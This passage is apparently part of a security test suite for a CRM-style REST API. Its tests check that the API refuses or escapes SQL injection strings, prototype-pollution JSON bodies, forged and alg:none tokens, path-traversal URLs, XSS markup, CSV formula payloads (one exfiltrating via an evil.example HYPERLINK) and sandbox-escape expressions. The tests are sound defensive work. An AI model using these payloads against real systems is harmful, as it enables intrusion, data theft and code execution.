  it('FQ-02 filter and sort keys resolve only against the definition: aliases, injection, prototype keys, look-alikes, wrong case', async () => {
    const keys = ['t1.password', 't0.createdBy.id', 'deal.title', '__proto__', 'constructor', '"a" OR 1=1 --', 'title; DROP TABLE deal', 'TITLE', 'Title', 'tіtle' /* Cyrillic і */, 'title\u200b', '_users.email', 'owner.id.x', 'deal"."title'];
    for (const key of [...keys, 'title ']) {
      const filter = await f.as('rep1', 'GET', `/api/v1/deal${q({ filter: JSON.stringify({ [key]: { eq: 'x' } }) })}`);
      expect(filter.status, `filter ${key}`).toBe(400);
    }
    for (const key of keys) {
      const sort = await f.as('rep1', 'GET', `/api/v1/deal${q({ sort: key })}`);
      expect(sort.status, `sort ${key}`).toBe(400);
    }
    expect((await f.as('rep1', 'GET', '/api/v1/deal')).status).toBe(200);
  });

  it('FQ-03 unknown query parameters are 400 on every route that takes a query', async () => {
    const paths = ['/api/v1/deal', `/api/v1/deal/${deal.rep1}`, `/api/v1/deal/${deal.rep1}/_audit`, '/api/v1/deal/_export', '/api/v1/_audit', '/api/v1/_access/explain?entity=deal', '/api/v1/_meta/entities/deal'];
    for (const path of paths) {
      for (const param of ['where=1', '_q=x', 'populate[owner]=*', 'filters[title]=x', 'page=-1', 'offset=0', 'access_token=x']) {
        const res = await f.as('viewer', 'GET', `${path}${path.includes('?') ? '&' : '?'}${param}`);
        expect(res.status, `${path} ${param}`).toBe(400);
      }
    }
    expect((await f.as('rep1', 'POST', '/api/v1/deal?debug=1', { body: { title: 'x' } })).status).toBe(400);
  });

  it('FQ-04 operator values are typed and bounded: long lists, deep nesting, wildcards, non-scalars', async () => {
    const bad = [
      { id: { in: Array.from({ length: 1001 }, (_, i) => i + 1) } },
      JSON.parse('{"and":['.repeat(100) + '{"id":{"eq":1}}' + ']}'.repeat(100)),
      { id: { eq: {} } }, { id: { eq: [] } }, { title: { eq: { $ne: 1 } } }, { title: { contains: ['a'] } }, { id: { in: [] } },
      { title: { eq: null } }, { title: { regex: '.*' } }, { title: { like: '%' } }, { and: [] }, { or: {} }, {},
    ];
    for (const filter of bad) {
      const res = await f.as('admin', 'GET', `/api/v1/deal${q({ filter })}`);
      expect(res.status, JSON.stringify(filter).slice(0, 80)).toBe(400);
    }
    // % and _ are literal characters, not wildcards
    const pct = await f.as('admin', 'GET', `/api/v1/deal${q({ filter: { title: { contains: '%' } } })}`);
    expect(pct.body.data).toEqual([]);
    const underscore = await f.as('admin', 'GET', `/api/v1/deal${q({ filter: { title: { startsWith: 'rep_' } } })}`);
    expect(underscore.body.data).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// SQ / PP: injection and pollution
// ---------------------------------------------------------------------------------------------

describe('SQ injection', () => {
  it('SQ-01 formula definitions with unknown functions or SQL fragments are refused when the definition is loaded', () => {
    const formulas = [
      'DATEADD(amount, 1, "day\'); DROP TABLE deal;--")', 'SLEEP(5)', 'amount; DROP TABLE deal', 'title + "\'; DELETE FROM deal; --"' + ' + NOPE()',
      'LOAD_EXTENSION("x")', 'pg_read_file("/etc/passwd")',
    ];
    for (const expression of formulas) {
      const dir = secureAppVariant({ 'entities/deal.json': (j: { fields: unknown[] }) => ({ ...j, fields: [...j.fields, { name: 'calc', type: 'formula', expression, resultType: 'text' }] }) });
      expect(() => loadAndCompile(dir), expression).toThrow(DefinitionInvalidError);
    }
    const ok = secureAppVariant({ 'entities/deal.json': (j: { fields: unknown[] }) => ({ ...j, fields: [...j.fields, { name: 'calc', type: 'formula', expression: 'CONCAT(title, "!")', resultType: 'text' }] }) });
    expect(() => loadAndCompile(ok)).not.toThrow();
  });

  it('SQ-02 sort fields and directions come from an allow-list; there is no aggregation or group-by parameter', async () => {
    for (const sort of ['title; select 1', 'title desc', 'title ASC', '-title,-', '(select 1)', 'if(1=2,sleep(1),title)', 'title COLLATE "C"', '--title']) {
      expect((await f.as('admin', 'GET', `/api/v1/deal${q({ sort })}`)).status, sort).toBe(400);
    }
    for (const param of ['aggregate=sum(amount)', 'groupBy=stage', 'orderBy=title']) {
      expect((await f.as('admin', 'GET', `/api/v1/deal?${param}`)).status, param).toBe(400);
    }
  });

  it('SQ-03 dialect-sensitive input gets the same answer on SQLite and PostgreSQL (NUL, lone surrogates, huge ids, forged cursors)', async () => {
    const forged = (v: unknown[]): string => Buffer.from(JSON.stringify({ s: 'id', v })).toString('base64url');
    const cases: [string, string, unknown, number][] = [
      ['POST', '/api/v1/account', { name: 'a\u0000b' }, 400],
      ['POST', '/api/v1/account', '{"name":"a\\ud800b"}', 400],
      ['POST', '/api/v1/account/_bulk', { upsert: { matchKey: ['code'] }, records: [{ code: 'x\u0000', name: 'y' }] }, 400],
      ['GET', `/api/v1/account${q({ filter: { name: { eq: 'a\u0000' } } })}`, undefined, 400],
      ['GET', `/api/v1/account${q({ filter: { name: { contains: '\udc00' } } })}`, undefined, 400],
      ['GET', `/api/v1/account${q({ q: 'x\u0000' })}`, undefined, 400],
      ['POST', '/api/v1/deal', { title: 'big ref', account: 1e20 }, 422],
      ['POST', '/api/v1/deal', { title: 'big owner', owner: 99999999999999999999 }, 422],
      ['GET', `/api/v1/deal${q({ filter: { id: { eq: 1e300 } } })}`, undefined, 400],
      ['GET', `/api/v1/deal${q({ filter: { account: { in: [1e19] } } })}`, undefined, 400],
      ['GET', `/api/v1/deal?cursor=${forged([1e300])}`, undefined, 400],
      ['GET', `/api/v1/deal?cursor=${forged(['abc'])}`, undefined, 400],
      ['GET', `/api/v1/deal?cursor=${forged([{ x: 1 }])}`, undefined, 400],
      ['GET', '/api/v1/deal/99999999999999999999', undefined, 404],
      ['GET', `/api/v1/_audit${q({ before: '9999999999999999' })}`, undefined, 200],
    ];
    for (const [method, path, body, status] of cases) {
      const res = typeof body === 'string'
        ? await f.api.request(method, path, { raw: body, headers: { 'content-type': 'application/json', authorization: `Bearer ${f.tokens.admin}` } })
        : await f.as('admin', method, path, body === undefined ? {} : { body });
      expect(res.status, `${method} ${path.slice(0, 80)}: ${JSON.stringify(res.body).slice(0, 160)}`).toBe(status);
    }
    const login = await f.api.request('POST', '/api/v1/_auth/login', { body: { email: 'x\u0000@example.com', password: 'whatever1234' } });
    expect(login.status).toBe(400);
  });
});

describe('PP prototype pollution', () => {
  const json = (who: Who, method: string, path: string, raw: string) => f.api.request(method, path, { raw, headers: { 'content-type': 'application/json', authorization: `Bearer ${f.tokens[who]}` } });

  it('PP-01 polluting keys in a JSON body are refused, top-level and nested, on every write route', async () => {
    const before = [await tableHash(f.rt.db.knex, 'account'), await tableHash(f.rt.db.knex, '_users')];
    const bodies: [string, string, string][] = [
      ['POST', '/api/v1/account', '{"name":"pp","__proto__":{"polluted":"yes"}}'],
      ['POST', '/api/v1/account', '{"name":"pp","code":{"constructor":{"prototype":{"polluted":"yes"}}}}'],
      ['POST', '/api/v1/account', '{"name":"pp","prototype":{"polluted":"yes"}}'],
      ['PATCH', `/api/v1/account/${acc.pool}`, '{"grade":"A","__proto__":{"isAdmin":true}}'],
      ['POST', '/api/v1/account/_bulk', '{"upsert":{"matchKey":["code"]},"records":[{"code":"pp1","name":"x","__proto__":{"polluted":"yes"}}]}'],
      ['POST', '/api/v1/account/_bulk', '{"upsert":{"matchKey":["code"],"__proto__":{"polluted":"yes"}},"records":[]}'],
      ['POST', '/api/v1/_users', '{"email":"pp@example.com","__proto__":{"roles":["admin"]}}'],
      ['PATCH', `/api/v1/_users/${f.ids.rep1}`, '{"name":"pp","constructor":{"prototype":{"roles":["admin"]}}}'],
      ['POST', '/api/v1/_auth/tokens', '{"name":"pp","scopes":["read"],"__proto__":{"scopes":["write"]}}'],
      ['POST', '/api/v1/_auth/login', '{"email":"rep1@example.com","password":"x","__proto__":{"isAdmin":true}}'],
    ];
    for (const [method, path, raw] of bodies) {
      const res = await json('admin', method, path, raw);
      expect(res.status, `${method} ${path} ${raw}`).toBe(400);
      expect(res.body.code).toBe('MALFORMED_REQUEST');
      expect(res.body.errors[0].code).toBe('forbidden_key');
    }
    expect([await tableHash(f.rt.db.knex, 'account'), await tableHash(f.rt.db.knex, '_users')]).toEqual(before);
  });

  it('PP-01 polluting keys in the query string and in filter JSON are refused', async () => {
    const queries = [
      `?filter=${encodeURIComponent('{"__proto__":{"polluted":1}}')}`,
      `?filter=${encodeURIComponent('{"title":{"eq":"x"},"constructor":{"prototype":{"polluted":1}}}')}`,
      `?filter=${encodeURIComponent('{"and":[{"title":{"__proto__":{"polluted":1}}}]}')}`,
      '?a[__proto__][x]=1', '?__proto__[polluted]=1', '?constructor[prototype][polluted]=1', '?__proto__=1',
      `?cursor=${Buffer.from('{"s":"id","v":[1],"__proto__":{"polluted":1}}').toString('base64url')}`,
    ];
    for (const query of queries) {
      for (const path of ['/api/v1/deal', '/api/v1/deal/_export']) {
        const res = await f.as('admin', 'GET', `${path}${query}`);
        expect(res.status, `${path}${query}`).toBe(400);
      }
    }
    for (const path of ['/api/v1/_audit?__proto__[x]=1', '/api/v1/_access/explain?entity=deal&__proto__[x]=1', `/api/v1/deal/${deal.rep1}?constructor[prototype][x]=1`]) {
      expect((await f.as('admin', 'GET', path)).status, path).toBe(400);
    }
    const meta = await f.as('admin', 'GET', '/api/v1/_meta/app?__proto__[polluted]=1&constructor[prototype][polluted]=1');
    expect(meta.status).not.toBe(500);
  });

  it('PP-01 canary: after all requests nothing is polluted in the server process', () => {
    const probe = {} as Record<string, unknown>;
    for (const key of ['polluted', 'x', 'isAdmin', 'roles', 'scopes']) {
      expect(probe[key], key).toBeUndefined();
      expect(Object.prototype.hasOwnProperty.call(Object.prototype, key), key).toBe(false);
    }
  });

  it('PP-02 definition files with polluting keys are refused at load, before any merge', () => {
    const variants = [
      { 'entities/deal.json': '{"name":"deal","__proto__":{"polluted":1},"fields":[{"name":"title","type":"text"}]}' },
      { 'entities/deal.json': '{"name":"deal","fields":[{"name":"title","type":"text","constructor":{"prototype":{"polluted":1}}}]}' },
      { 'roles/rep.json': '{"name":"rep","permissions":{"__proto__":{"read":true}}}' },
      { 'app.json': '{"name":"secure","version":"1.0.0","locales":["en"],"prototype":{"polluted":1}}' },
    ];
    for (const files of variants) {
      const dir = secureAppVariant(files);
      expect(() => loadAndCompile(dir), Object.values(files)[0]).toThrow(DefinitionInvalidError);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

// ---------------------------------------------------------------------------------------------
// AU: authentication
// ---------------------------------------------------------------------------------------------

describe('AU authentication', () => {
  it('AU-01 rotating X-Forwarded-For does not reset the per-address login limit (proxy headers are not trusted by default)', async () => {
    const strict = await startSecureFixture({ loginPerIpPerMinute: 3 });
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 5; i++) {
        const res = await strict.api.request('POST', '/api/v1/_auth/login', { body: { email: `spray${i}@example.com`, password: 'x'.repeat(12) }, headers: { 'x-forwarded-for': `203.0.113.${i + 1}`, 'x-real-ip': `198.51.100.${i + 1}` } });
        statuses.push(res.status);
      }
      expect(statuses).toEqual([401, 401, 401, 429, 429]);
    } finally {
      await strict.close();
    }
  }, 120_000); // a fresh fixture hashes its users' passwords (scrypt): slow on a loaded machine

  it('AU-02 unknown user, wrong password and suspended user get the same status, body and headers, and all run the password hash', async () => {
    const made = await f.asCredentials('admin', 'POST', '/api/v1/_users', { body: { email: 'au02-suspended@example.com', password: PASSWORD, roles: ['viewer'] } });
    await f.asCredentials('admin', 'PATCH', `/api/v1/_users/${made.body.data.id}`, { body: { status: 'suspended' } });
    const unknown = await login('au02-ghost@example.com', 'wrong password 1');
    const wrong = await login('rep2@example.com', 'wrong password 1');
    const suspended = await login('au02-suspended@example.com', PASSWORD);
    // What one verification costs on this machine now: the fastest of three. A login that runs it
    // can not answer much sooner, however fast the machine is; one that skips it answers in a tenth
    // of the time or less (measured: 14 against 190 ms on a loaded machine). The margin of 0.3
    // covers the load changing between the logins and this measurement.
    const stored = await hashPassword('au02 calibration password');
    let verification = Infinity;
    for (let i = 0; i < 3; i++) {
      const t0 = performance.now();
      await verifyPassword('wrong password 1', stored);
      verification = Math.min(verification, performance.now() - t0);
    }
    for (const r of [unknown, wrong, suspended]) {
      expect(r.status).toBe(401);
      expect(withoutRequestId(r.body)).toEqual(withoutRequestId(unknown.body));
      expect(r.setCookie).toEqual([]);
      expect(r.ms, 'the scrypt verification ran').toBeGreaterThan(verification * 0.3);
    }
  });

  it('AU-04 tampered, foreign-format, malformed and expired credentials are 401 and never fall back to another credential', async () => {
    const good = f.tokens.viewer;
    const expired = (await createToken(f.rt.db.knex, f.ids.viewer, { name: 'old', scopes: ['read'], expiresAt: new Date(Date.now() - 1000).toISOString() })).token;
    const session = await login('viewer@example.com', PASSWORD);
    const sessionCookie = session.setCookie.map((c) => c.split(';')[0]).find((c) => c.startsWith('crm_session='))!;
    const sessionToken = sessionCookie.split('=')[1];
    const flip = (t: string, i: number): string => t.slice(0, i) + (t[i] === 'A' ? 'B' : 'A') + t.slice(i + 1);
    const headers: Record<string, string>[] = [
      { authorization: `Bearer ${flip(good, good.length - 1)}` }, { authorization: `Bearer ${flip(good, 6)}` }, { authorization: `Bearer ${good}x` },
      { authorization: `Bearer ${good.slice(0, -1)}` }, { authorization: `Bearer ${expired}` }, { authorization: `Bearer ${sessionToken}` },
      { authorization: 'Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOjEsInJvbGUiOiJhZG1pbiJ9.' },
      { authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOjF9.c2lnbmF0dXJl' },
      { authorization: `Bearer  ${good}` }, { authorization: `Bearer\t${good}` }, { authorization: `bearer ${good}` }, { authorization: `Token ${good}` },
      { authorization: good }, { authorization: 'Bearer' }, { authorization: 'Bearer ' + 'A'.repeat(5000) },
      { authorization: `Basic ${Buffer.from(`admin@example.com:${PASSWORD}`).toString('base64')}` },
      { cookie: `crm_session=${good}` }, { cookie: `crm_session=${flip(sessionToken, 8)}` },
      { authorization: 'Bearer nope-nope-nope', cookie: sessionCookie }, // a bad bearer is not rescued by a good cookie
    ];
    for (const h of headers) {
      const res = await f.api.request('GET', '/api/v1/account', { headers: h });
      expect(res.status, JSON.stringify(h).slice(0, 120)).toBe(401);
    }
    // non-ASCII look-alikes in the header (sent as raw bytes)
    const cyr = Buffer.from(`Bearer ${good.slice(0, 8)}а${good.slice(9)}`, 'utf8').toString('latin1');
    expect((await rawRequest(f.api.url, 'GET', '/api/v1/account', { authorization: cyr })).status).toBe(401);
    expect((await rawRequest(f.api.url, 'GET', `/api/v1/account?access_token=${good}`)).status).toBe(401);
    expect((await f.api.request('GET', '/api/v1/account', { headers: { authorization: `Bearer ${good}` } })).status).toBe(200);
  });

  it('AU-05 path, encoding and case tricks never bypass authentication', async () => {
    const before = await countRows(f.rt.db.knex, 'account');
    const tricks: [string, string][] = [
      ['GET', '/api/v1/_auth/login/../account'], ['GET', '/api/v1/_auth/login/%2e%2e/account'], ['GET', '/api/v1/_auth/login/..%2faccount'],
      ['GET', '/api/v1/_auth/login/%2E%2E%2Faccount'], ['POST', '/api/v1/_auth/login/../../v1/account'], ['POST', '/api/v1/_auth/login/..%2f..%2fv1%2faccount'],
      ['GET', '/api/v1/account?x=/_auth/login'], ['POST', '/api/v1/account?next=/api/v1/_auth/login'], ['POST', '/api/v1/account#/api/v1/_auth/login'],
      ['GET', '/API/v1/account'], ['GET', '/Api/V1/Account'], ['GET', '/api/v1/account/'], ['GET', '/api/v1/account//'], ['GET', '/api//v1/account'],
      ['GET', '/api/v1/./account'], ['GET', '/api/v1/%61ccount'], ['GET', '/%61pi/v1/account'], ['GET', '//api/v1/account'],
      ['GET', '/healthz/../api/v1/account'], ['GET', '/api/v1/_auth/login%00/../account'], ['POST', '/api/v1/_auth/login/'], ['POST', '/API/V1/_AUTH/LOGIN'],
      ['POST', '/api/v1/_auth/login;/../account'], ['GET', '/api/openapi.json/'], ['GET', '/API/openapi.json'], ['GET', '/api/docs/'],
    ];
    for (const [method, path] of tricks) {
      const res = await rawRequest(f.api.url, method, path, { 'content-type': 'application/json' }, method === 'POST' ? JSON.stringify({ name: 'bypass', email: 'rep1@example.com', password: PASSWORD }) : undefined);
      expect([400, 401, 404], `${method} ${path} → ${res.status} ${res.text.slice(0, 120)}`).toContain(res.status);
    }
    expect(await countRows(f.rt.db.knex, 'account')).toBe(before);
  });

  it('AU-06 e-mail identity is one canonical form (case, NFKC) for login and uniqueness; look-alikes stay other accounts', async () => {
    for (const variant of ['REP2@EXAMPLE.COM', ' Rep2@Example.Com ', 'ｒｅｐ２＠ｅｘａｍｐｌｅ．ｃｏｍ']) {
      const res = await login(variant, PASSWORD);
      expect(res.status, variant).toBe(200);
      expect((res.body.data as { user: { id: number } }).user.id).toBe(f.ids.rep2);
    }
    for (const email of ['REP3@example.com', 'rep3@EXAMPLE.com', 'ｒｅｐ３@example.com', ' rep3@example.com']) {
      const res = await f.asCredentials('admin', 'POST', '/api/v1/_users', { body: { email } });
      expect(res.status, email).toBe(409);
    }
    for (const lookalike of ['rеp2@example.com' /* Cyrillic е */, 'rép2@example.com', 'rep2@exаmple.com' /* Cyrillic а */]) {
      expect((await login(lookalike, PASSWORD)).status, lookalike).toBe(401);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// DS / DU / CC: cost, limits, concurrency
// ---------------------------------------------------------------------------------------------

describe('DS query cost and limits', () => {
  it('DS-01 page size, expand depth and breadth, filter size and conditions, fields and URL length are capped (400/413/414/431)', async () => {
    const expand = (n: number) => Array.from({ length: n }, () => 'account').join(',');
    const conditions = { and: Array.from({ length: 201 }, (_, i) => ({ id: { ne: i + 1 } })) };
    const nested = JSON.parse('{"not":'.repeat(12) + '{"id":{"eq":1}}' + '}'.repeat(12));
    const cases: [string, number[]][] = [
      [q({ limit: '1000000' }), [400]], [q({ limit: '501' }), [400]], [q({ limit: '0' }), [400]], [q({ limit: '-1' }), [400]], [q({ limit: '1e3' }), [400]],
      [q({ page: '-1' }), [400]], [q({ expand: 'account.deals.account.deals' }), [400]], [q({ expand: expand(21) }), [400]],
      [q({ filter: { id: { in: Array.from({ length: 1001 }, (_, i) => i) } } }), [400]], [q({ filter: conditions }), [400]], [q({ filter: nested }), [400]],
      [q({ filter: { title: { eq: 'x'.repeat(17_000) } } }), [400, 414, 431]],
      [q({ fields: Array.from({ length: 201 }, () => 'title').join(',') }), [400]], [q({ q: 'x'.repeat(201) }), [400]],
      [`?filter=${'x'.repeat(20_000)}`, [400, 414, 431]],
    ];
    for (const [query, statuses] of cases) {
      const res = await rawRequest(f.api.url, 'GET', `/api/v1/deal${query}`, { authorization: `Bearer ${f.tokens.admin}` });
      expect(statuses, `${query.slice(0, 60)} → ${res.status}`).toContain(res.status);
    }
    const big = await f.as('admin', 'POST', '/api/v1/account', { body: { name: 'x'.repeat(1_100_000) } });
    expect(big.status).toBe(413);
    const many = await f.as('admin', 'POST', '/api/v1/account/_bulk', { body: { upsert: { matchKey: ['code'] }, records: Array.from({ length: 1001 }, (_, i) => ({ code: `b${i}`, name: 'n' })) } });
    expect(many.status).toBe(422);
    const audit = await f.as('admin', 'GET', `/api/v1/_audit${q({ limit: '999' })}`);
    expect(audit.status).toBe(200);
    expect(audit.body.data.length).toBeLessThanOrEqual(500);
  });

  it('DS-03 rate limits are on by default for logins and writes', async () => {
    const fresh = await startSecureFixture({ loginPerIpPerMinute: undefined });
    try {
      const write = await fresh.as('admin', 'POST', '/api/v1/account', { body: { name: 'limited' } });
      expect(write.status).toBe(201);
      expect(write.headers.get('ratelimit-policy')).toMatch(/^3000;w=60/);
      const statuses: number[] = [];
      for (let i = 0; i < 21; i++) statuses.push((await fresh.api.request('POST', '/api/v1/_auth/login', { body: { email: `ds03-${i}@example.com`, password: 'x'.repeat(12) } })).status);
      expect(statuses.slice(0, 20).every((s) => s === 401)).toBe(true);
      expect(statuses[20]).toBe(429);
    } finally {
      await fresh.close();
    }
  }, 120_000); // 21 password checks (scrypt) in a row: slow on a loaded machine
});

describe('DU and CC concurrency', () => {
  it('DU-04 fifty concurrent writers: every write succeeds, none surfaces as 500 or SQLITE_BUSY', async () => {
    const results = await Promise.all(Array.from({ length: 50 }, (_, i) => f.as(i % 2 ? 'rep1' : 'manager', 'POST', '/api/v1/deal', { body: { title: `concurrent ${i}`, amount: '1.00', account: i % 2 ? acc.rep1 : acc.rep2 } })));
    expect(results.map((r) => r.status)).toEqual(Array(50).fill(201));
    const acct = await f.as('admin', 'GET', `/api/v1/account/${acc.rep1}`);
    expect(acct.status).toBe(200);
  });

  it('CC-01 two users PATCH with the same If-Match: one 200 (new ETag), one 412; a stale DELETE is 412 and deletes nothing', async () => {
    const read = await f.as('rep1', 'GET', `/api/v1/deal/${deal.rep1}`);
    const etag = read.headers.get('etag')!;
    const [a, b] = await Promise.all([
      f.as('rep1', 'PATCH', `/api/v1/deal/${deal.rep1}`, { body: { amount: '11.00' }, headers: { 'if-match': etag } }),
      f.as('manager', 'PATCH', `/api/v1/deal/${deal.rep1}`, { body: { amount: '12.00' }, headers: { 'if-match': etag } }),
    ]);
    expect([a.status, b.status].sort()).toEqual([200, 412]);
    const winner = a.status === 200 ? a : b;
    expect(winner.headers.get('etag')).not.toBe(etag);
    const loser = a.status === 412 ? a : b;
    expect(loser.body.code).toBe('PRECONDITION_FAILED');
    const stale = await f.as('rep1', 'DELETE', `/api/v1/deal/${deal.rep1}`, { headers: { 'if-match': etag } });
    expect(stale.status).toBe(412);
    expect((await f.as('rep1', 'GET', `/api/v1/deal/${deal.rep1}`)).status).toBe(200);
  });
});

// ---------------------------------------------------------------------------------------------
// IN / XS / SB / CS: what definitions and data turn into
// ---------------------------------------------------------------------------------------------

describe('IN inventory', () => {
  it('IN-01 an entity the caller may not read is absent from OpenAPI, /api/docs and _meta; unauthenticated schema and docs are 401', async () => {
    for (const path of ['/api/openapi.json', '/api/docs', '/api/v1/_meta/app', '/api/v1/_meta/entities/account']) {
      expect((await f.api.request('GET', path)).status, path).toBe(401);
    }
    const doc = await f.as('rep1', 'GET', '/api/openapi.json');
    expect(Object.keys(doc.body.paths).filter((p) => p.startsWith('/api/v1/note'))).toEqual([]);
    expect(Object.keys(doc.body.components.schemas).filter((s) => s.startsWith('Note'))).toEqual([]);
    const docs = await fetch(`${f.api.url}/api/docs`, { headers: { authorization: `Bearer ${f.tokens.rep1}` } });
    expect(await docs.text()).not.toContain('/api/v1/note');
    const meta = await f.as('rep1', 'GET', '/api/v1/_meta/app');
    expect(meta.body.data.entities.map((e: { name: string }) => e.name)).not.toContain('note');
    expect((await f.as('rep1', 'GET', '/api/v1/_meta/entities/note')).status).toBe(404);
    const nobody = await f.as('nobody', 'GET', '/api/openapi.json');
    expect(Object.keys(nobody.body.paths).filter((p) => !/^\/(healthz|readyz|api\/openapi\.json|api\/docs|api\/v1\/_)/.test(p))).toEqual([]);
    expect(Object.keys(nobody.body.components.schemas).filter((s) => !['Problem', 'ListMeta', 'UserRef', 'PublicUser', 'AuditEntry'].includes(s))).toEqual([]);
    expect((await f.as('nobody', 'GET', '/api/v1/_meta/app')).body.data.entities).toEqual([]);
  });

  it('IN-01 a renamed entity: the old route is 404 at once, data is kept, OpenAPI lists the new name only', async () => {
    const v1 = secureAppVariant({});
    const v2 = secureAppVariant({ 'entities/note.json': null, 'entities/memo.json': { name: 'memo', renamedFrom: 'note', fields: [{ name: 'body', type: 'text', required: true }, { name: 'account', type: 'relation', target: 'account', cardinality: 'many-to-one', onDelete: 'cascade' }] } });
    const file = join(tmpdir(), `crm-in01-${randomBytes(4).toString('hex')}.sqlite`);
    const databaseUrl = PG_URL || `sqlite:${file}`;
    const pgSchema = PG_URL ? `t_${randomBytes(6).toString('hex')}` : undefined;
    const first = await createRuntime({ appDir: v1, databaseUrl, pgSchema });
    await createRecord(first, { entity: 'note', data: { body: 'kept across the rename' }, ctx: asSystem('in-01 test') });
    await first.close();
    const second = await createRuntime({ appDir: v2, databaseUrl, pgSchema });
    const api = await startTestServer(second);
    try {
      expect((await api.request('GET', '/api/v1/note')).status).toBe(404);
      const memos = await api.request('GET', '/api/v1/memo');
      expect(memos.body.data.map((m: { body: string }) => m.body)).toEqual(['kept across the rename']);
      const doc = await api.request('GET', '/api/openapi.json');
      expect(Object.keys(doc.body.paths).some((p) => p.startsWith('/api/v1/note'))).toBe(false);
      expect(Object.keys(doc.body.paths)).toContain('/api/v1/memo');
    } finally {
      await api.close();
      if (pgSchema) await second.db.knex.raw('DROP SCHEMA IF EXISTS ?? CASCADE', [pgSchema]);
      await second.close();
      for (const suffix of ['', '-wal', '-shm']) rmSync(file + suffix, { force: true });
    }
  });
});

describe('MG migrations', () => {
  it('MG-01 removing a field keeps its column and data unless the plan is applied as destructive', async () => {
    const db = await openTestDb();
    try {
      const withLegacy = secureAppVariant({ 'entities/deal.json': (j: { fields: unknown[] }) => ({ ...j, fields: [...j.fields, { name: 'legacy', type: 'text' }] }) });
      const app1 = loadAndCompile(withLegacy).app;
      await applyMigration({ db, plan: await planFor(db, app1), app: { name: app1.name, version: app1.version } });
      await createRecord({ db, app: app1, authorize: allowAll }, { entity: 'deal', data: { title: 'old', legacy: 'precious' }, ctx: asSystem('mg-01 test') });
      const app2 = loadAndCompile(secureAppVariant({})).app;
      const plan = await planFor(db, app2);
      expect(plan.steps.filter((s) => s.op === 'dropColumn' || s.op === 'dropTable')).toEqual([]);
      expect(plan.orphans).toContain('column deal.legacy');
      await applyMigration({ db, plan, app: { name: app2.name, version: app2.version } });
      expect(await db.knex('deal').pluck('legacy')).toEqual(['precious']);
      // a destructive plan applied without the flag skips the drop
      const destructive = await planFor(db, app2, { destructive: true });
      expect(destructive.steps).toContainEqual(expect.objectContaining({ op: 'dropColumn', table: 'deal', column: 'legacy', destructive: true }));
      const result = await applyMigration({ db, plan: destructive, app: { name: app2.name, version: app2.version } });
      expect(result.skipped.map((s) => s.op)).toContain('dropColumn');
      expect(await db.knex('deal').pluck('legacy')).toEqual(['precious']);
    } finally {
      await db.cleanup();
    }
  });
});

describe('XS / SB / CS: definitions and data rendered elsewhere', () => {
  let small: SmallApp;
  const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', "=cmd|' /C calc'!A0", ' =spaced', 'plain, with "quotes"'];
  beforeAll(async () => {
    const dir = secureAppVariant({
      'entities/account.json': (j: { fields: Record<string, unknown>[] }) => ({
        ...j,
        label: { en: '<script>alert("entity")</script>' },
        fields: j.fields.map((fl) => fl.name === 'name' ? { ...fl, label: { en: '<img src=x onerror=alert(1)>' }, description: { en: '</td><script>alert(2)</script>' } }
          : fl.name === 'grade' ? { ...fl, options: [{ value: 'A', label: { en: '<svg onload=alert(3)>' } }, { value: 'B' }, { value: 'C' }] } : fl),
      }),
      'entities/deal.json': (j: { fields: unknown[] }) => ({ ...j, fields: [...j.fields, { name: 'echo', type: 'formula', expression: 'CONCAT(title, "")', resultType: 'text' }] }),
      'roles/exporter.json': { name: 'exporter', permissions: { account: { read: { owner: { eq: { $var: 'user.id' } } }, export: { grade: { eq: 'A' } }, hidden: ['secret_note'] } } },
    });
    small = await startSmallApp(dir, { admin: { roles: ['admin'] }, exp: { roles: ['exporter'] }, other: { roles: ['exporter'] }, rep: { roles: ['rep'] } });
    for (const name of names) {
      const res = await small.as('admin', 'POST', '/api/v1/account', { body: { name, owner: small.ids.exp, grade: 'A', credit_limit: '-5.00', secret_note: '=secret' } });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
    await small.as('admin', 'POST', '/api/v1/account', { body: { name: 'grade B of exp', owner: small.ids.exp, grade: 'B' } });
    await small.as('admin', 'POST', '/api/v1/account', { body: { name: 'grade A of other', owner: small.ids.other, grade: 'A' } });
  });
  afterAll(async () => small.close());

  it('XS-02 definition labels, descriptions and option labels with markup are escaped in /api/docs, served under a script-free CSP', async () => {
    const res = await small.as('admin', 'GET', '/api/docs');
    expect(res.status).toBe(200);
    const html = String(res.body);
    expect(html).not.toMatch(/<script|<img|<svg|<\/td><script/i);
    expect(html).toContain('&lt;script&gt;alert(&quot;entity&quot;)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).not.toMatch(/script-src/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const meta = await small.as('admin', 'GET', '/api/v1/_meta/entities/account');
    expect(meta.headers.get('content-type')).toMatch(/application\/json/);
  });

  it('XS-01 (no rich text yet) markup in record text is stored as text and served only as JSON or CSV attachments with nosniff', async () => {
    const payload = '<img src=x onerror=alert(document.cookie)><svg onload=alert(1)>javascript:alert(1)';
    const res = await small.as('admin', 'POST', '/api/v1/deal', { body: { title: payload } });
    expect(res.status).toBe(201);
    const read = await small.as('admin', 'GET', `/api/v1/deal/${res.body.data.id}`);
    expect(read.body.data.title).toBe(payload);
    expect(read.headers.get('content-type')).toMatch(/^application\/json/);
    expect(read.headers.get('x-content-type-options')).toBe('nosniff');
    const csv = await small.as('admin', 'GET', '/api/v1/deal/_export');
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(csv.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('SB-01 formula expressions can not reach host objects: refused when the definition is loaded', () => {
    for (const expression of ["constructor.constructor('return process')()", 'this.constructor', 'title.constructor', '(() => 1)()', '`${title}`', 'process.env.SECRET', 'title["constructor"]', 'new Function("return 1")()', 'require("fs")', 'globalThis']) {
      const dir = secureAppVariant({ 'entities/deal.json': (j: { fields: unknown[] }) => ({ ...j, fields: [...j.fields, { name: 'calc', type: 'formula', expression, resultType: 'text' }] }) });
